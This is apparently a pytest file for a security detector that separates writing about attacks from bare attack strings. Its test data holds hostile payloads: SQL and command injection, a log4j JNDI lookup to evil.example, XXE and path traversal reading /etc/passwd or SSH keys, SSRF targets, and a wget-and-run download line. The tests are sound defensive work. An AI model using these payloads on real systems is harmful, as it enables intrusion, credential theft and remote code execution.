"""What tells talk about an attack from an attack: sentences, notes, words around, whole statements."""

import pytest

from worker.security.detect.table import Detectors
from worker.security.detect.talk import has_words, is_note, is_set_off, is_spoken, is_talk, is_worded
from worker.security.detect.whole import is_code, is_command_line, is_document, is_record, is_statement

THRESHOLD = 5


@pytest.fixture(scope="module")
def detectors() -> Detectors:
    return Detectors()


def score(detectors: Detectors, text: str) -> int:
    return sum(found.score for found in detectors.findings(text.encode()))


@pytest.mark.parametrize(
    ("text", "has"),
    [
        ("Login fails when password contains ' or \"", True),
        ("Reset password link expired", True),
        ("' union select name, value from settings", False),
        ("; docker run -v /:/mnt", False),
        ("x=1", False),
    ],
)
def test_words_in_a_row_are_counted_but_for_those_of_statements_and_commands(text: str, has: bool) -> None:
    assert has_words(text.encode()) is has


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("fix(auth): reject `' or 1=1`", True), ("ci: run npm && make", True),
        ("[Bug] ' breaks search", True),
        ("Re: your order", True), ("Replace os.system(cmd) by subprocess", True), ("fix typo", True),
        ("test' or 1=1", False), ("run; id", False), ("127.0.0.1; id", False), ("Set-Cookie: a=b", False),
    ],
)  # fmt: skip
def test_a_note_begins_as_messages_of_commits_and_titles_of_reports_do(text: str, is_one: bool) -> None:
    assert is_note(text.encode()) is is_one


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("Bump it; `npm audit fix` helps.", True), ("Run `make; make install` and wait", True),
        ("x`id`", False), ("`id`", False), ("a; `id`", False),
    ],
)  # fmt: skip
def test_code_is_set_off_where_words_stand_on_both_sides_of_the_backticks(text: str, is_one: bool) -> None:
    assert is_set_off(text.encode()) is is_one


def test_each_measure_of_talk_takes_in_the_narrower_one() -> None:
    sentence, title, keywords = b"why is it so, and what is that?", b"long title here", b"select all values"
    assert [is_talk(one) for one in (sentence, title, keywords)] == [True, False, False]
    assert [is_spoken(one) for one in (sentence, title, keywords)] == [True, True, False]
    assert [is_worded(one) for one in (sentence, title, keywords)] == [True, True, True]


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ('String sql = "SELECT 1";', True), ("$id = $_GET['id'];", True), ("console.log('a' + b)", True),
        ('=COUNTIFS(A:A,"<>",B:B,"=1")', True), ("if (a && b) { c(); }", True),
        ("{ users(id: 1) { id } }", True),
        ("s/'/''/g", True),
        ("(?:'|\")(\\w+)", True), ("```sql\nx", True), ("' or 1=1", False),
        ("if(now()=sysdate(),sleep(5),0)", False), ("1=1", False),
    ],
)  # fmt: skip
def test_a_program_is_known_by_how_its_first_line_begins(text: str, is_one: bool) -> None:
    assert is_code(text.encode()) is is_one


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ('203.0.113.9 - - [15/Mar/2024:10:30:00 +0100] "GET /?id=1%27 HTTP/1.1" 403 199', True),
        ("Mar 12 06:25:01 web CRON[1]: (root) CMD (a || b)", True),
        ("diff --git a/x b/x\n-a", True), ("--- a\n+++ b\n@@ -1 +1 @@", True), ("--- a", False),
        ("2024-03-12 06:25:14 ERROR x", True),
        ("203.0.113.9; id", False), ("2024-03-12", False),
    ],
)  # fmt: skip
def test_a_record_is_known_by_how_logs_and_diffs_begin(text: str, is_one: bool) -> None:
    assert is_record(text.encode()) is is_one


def test_whole_statements_and_command_lines_are_no_pieces() -> None:
    assert is_statement(b"IF EXISTS (SELECT 1 FROM t) DROP TABLE t;") and not is_statement(b"' or exists (1)")
    assert is_command_line(b"crontab -l | sort") and not is_command_line(b"test & whoami")
    assert is_document(b"a first line\na second") and not is_document(b"1\nunion")


@pytest.mark.parametrize(
    "text",
    [
        "SQL injection: how ' OR 1=1 -- broke a bank",
        'Add "order by date" option; default desc',
        'feat: union of filters & "or" operator',
        "ok brb, running apt update && apt upgrade",
        "Fix NPE in find() if id == null || id < 1",
        'Prevent SQL injection in report builder ("ORDER BY " + col)',
        "c:\\windows\\system32 is 20 GB??",
        "/etc/hosts windows equivalent",
        ".htaccess redirect",
        "http://10.0.0.1 login",
        "__proto__ vs prototype",
        "jndi:ldap exploit",
        "Upgrade log4j to 2.17.1 because of ${jndi:…} lookups",
        "The log contained ${jndi:ldap://...} and nothing else",
        "Replace os.system(cmd) with subprocess.run(cmd)",
        "upstream a { server b; }\nserver { listen 443 ssl; }",
        "ログイン画面で「' OR 1=1」と入力されたログがあります。",
        "xpath //*[text()='a']",
        "ldap filter (&(a=b)(c=d))",
        "const user = await User.findOne({ $or: [{ email }, { name }] });",
        "RUN apt-get update && rm -rf /var/lib/apt/lists/*",
        "<?php tag missing",
        "<script[^>]*>.*?</script>",
        "An XXE happens if the parser resolves <!ENTITY x SYSTEM \"file:///etc/passwd\">; turn DTDs off.",
    ],
)  # fmt: skip
def test_what_people_write_about_attacks_passes(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) < THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "shoes' or 1=1 -- ", '" or 1=1 or "', "name' and sleep(5)#", "x; cat /etc/hosts", "/etc/hosts",
        "http://10.0.0.1/", "__proto__[x]", "${jndi:ldap://evil.example/a}", "a && whoami",
        "file:////etc/passwd", "x\r\nServer: evil", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "for $x in //user return $x/password", "admin)(&)", "' || this.a == 'b", "1\nUNION\nSELECT\n1,2",
        "<?php echo 'x'; ?>", "<script >alert(1)</script>",
        "a@b.example\nSubject: You have won a prize, and it is yours",
        "cd /tmp; wget http://198.51.100.4/x; chmod 777 x; sh x",
    ],
)  # fmt: skip
def test_an_attack_is_refused_where_nothing_is_said_around_it(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) >= THRESHOLD


def test_a_value_that_speaks_of_several_attacks_is_one_warning(detectors: Detectors) -> None:
    talk = "Is it $_GET['id'] or $_REQUEST['id']? And should I cast to (int)?"
    assert len(detectors.findings(talk.encode())) == 2
    assert score(detectors, talk) == 3


@pytest.mark.parametrize(
    "text",
    [
        "../../assets/img/logo.svg", "../shared/main.css?v=2", "file:///home/jo/Documents/letter.odt",
        "http://localhost:3000/auth/callback", "http://[2001:db8::1]:8080/", "redis://cache.example.org:6379/0",
        "db.users.find({ age: 21 }).sort({ name: 1 })", "Object.prototype.hasOwnProperty.call(obj, key)",
        "<?= $title ?>", "SQL; PHP; Perl", "tom & jerry; vol 1", "data:image/png;base64 decode",
        "if (tired) { sleep(8h); } haha",
    ],
)  # fmt: skip
def test_what_pages_and_programs_are_made_of_passes(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) < THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "../../etc/passwd.css/../passwd", "../../../etc/issue.html", "file:///home/jo/.ssh/id_rsa",
        "http://localhost:3000/admin", "redis://127.0.0.1:6379/", "http://example.com:80\\@127.0.0.1/",
        "http://127.0.0.1\\@example.com/", "db.users.find({$where: 1})", "Object.prototype.x=1",
        "<?= `id` ?>", ";groups", "..\u2215..\u2215etc", "http://kubernetes.default.svc.cluster.local/",
    ],
)  # fmt: skip
def test_the_same_with_an_attack_in_it_is_refused(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) >= THRESHOLD
